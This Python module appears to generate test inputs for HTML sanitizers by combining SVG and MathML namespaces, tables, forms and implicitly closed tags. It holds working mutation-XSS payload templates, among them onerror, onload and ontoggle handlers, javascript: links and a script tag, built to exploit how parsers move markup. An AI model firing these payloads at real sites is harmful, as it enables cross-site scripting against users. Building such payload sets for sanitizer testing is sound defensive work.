"""Markup that parsers of trees put elsewhere than it stands: namespaces within each other, tables,
forms, and what HTML ends by itself."""

from __future__ import annotations

from itertools import product

from .signs import FETCH, RUN

_IMG = f"<img src=x onerror={RUN}>"
_OUTER = (
    *(
        "<svg>",
        "<math>",
        "<math><mtext>",
        "<svg><foreignObject>",
        "<svg><desc>",
        "<svg><title>",
        "<math><mi>",
    ),
    *(
        '<math><annotation-xml encoding="text/html">',
        '<math><annotation-xml encoding="application/xhtml+xml">',
    ),
    *(
        "<form><math><mtext></form><form>",
        "<table><math>",
        "<select><svg>",
        "<math><mtext><table>",
        "<svg><p>",
    ),
)
_INNER = (
    *(
        "style",
        "title",
        "xmp",
        "noscript",
        "textarea",
        "iframe",
        "noembed",
        "noframes",
        "script",
        "template",
    ),
    *(
        "mglyph><style",
        "malignmark><style",
        "p><style",
        "select><style",
        "option><style",
        "table><mglyph><style",
    ),
)
NAMESPACES = (
    *(
        f'{outer}<{inner}><a title="</{inner.rpartition("<")[2]}>{_IMG}">'
        for outer, inner in product(_OUTER, _INNER)
    ),
    *(
        f"{outer}<{inner}><!--</{inner.rpartition('<')[2]}>{_IMG}-->"
        for outer, inner in product(_OUTER, _INNER[::3])
    ),
    *(
        f"{outer}{end}{_IMG}"
        for outer, end in product(_OUTER, ("</p>", "</br>", "<![CDATA[>", "]]>", "<b>", "<body>"))
    ),
)
_TABLES = (
    *(
        "<table>",
        "<table><tr>",
        "<table><tr><td><table>",
        "<table><caption>",
        "<table><colgroup>",
        "<table><tbody><tr><td></td>",
    ),
    *(
        "<select><optgroup>",
        "<ul><li><table>",
        "<p><table>",
        "<table><tfoot><tr><th>",
        "<dl><dt><table>",
        "</td></tr></table><table>",
    ),
)
_MOVED = (
    *(
        _IMG,
        "<form id=x><input name=y>",
        f"<a href=javascript:{RUN}>x</a>",
        "</table></div></article><main>",
        "<h1>x<nav>",
    ),
    *(
        f"<details open ontoggle={RUN}>x",
        "<input type=hidden autofocus>",
        f"<svg onload={RUN}>",
        "</tr></td></body></html><script>alert(1)</script>",
    ),
    *(
        "<tr><td>x</table><p>x",
        "<caption>x<div></caption>",
        "<aside><section>x",
        "<col><p>x",
        "x<b>x<td>x</b>",
    ),
)
TABLES = tuple(f"{table}{moved}" for table, moved in product(_TABLES, _MOVED))
_NESTED = (
    "a",
    "b",
    "p",
    "li",
    "h1",
    "button",
    "nobr",
    "form",
    "option",
    "details",
    "dd",
    "table",
    "article",
    "div",
    "span",
    "label",
)
ENDS = (
    *(f"</{one}>" for one in _NESTED),
    *(f"<{one}>" * 5 for one in _NESTED),
    *(f"<{one}><div></{one}>x</div>" for one in _NESTED),
    *(f"<{one}><p></{one}></p><{one}/>x" for one in _NESTED),
    *(f"<b><i><u><{one}></b>x</i>y</u>" for one in _NESTED),
    *(
        "</p></p></p>",
        "</br>",
        "</br/></p/>",
        "<br></br>",
        "</body><p>x",
        "</html><p>x",
        "</head><p>x",
        "<p></div></p>",
    ),
    *(
        f"<html onclick={RUN} class=x id=x lang=x>",
        f"<body onclick={RUN} class=x id=x dir=rtl>",
        "<head>",
        "<frameset>",
        "<frame>",
    ),
    *(
        f"<image src={FETCH}>",
        "<isindex>",
        "<listing>\n\nx",
        "<plaintext/>",
        "<keygen autofocus>",
        "<menuitem>x",
        "<spacer>",
        "<multicol>",
    ),
    *(
        "<ruby><rt><rp>x",
        "<optgroup><option>x",
        "<legend>x",
        "<colgroup><template>",
        "<nobr>x<nobr>",
        "<search>x</search>",
        "<hgroup>",
    ),
    *(
        "<header>x</header>",
        "<footer>x</footer>",
        "<main>x</main>",
        "<nav>x</nav>",
        "<aside>x</aside>",
        "<section><h1>x",
        "<address>x",
    ),
    *(
        "<div>" * 40,
        "<b>" * 300 + "x",
        "<blockquote>" * 30,
        "<table><tr><td>" * 20,
        "</div>" * 40,
        "<a>" * 60,
        "<font>" * 30,
    ),
)
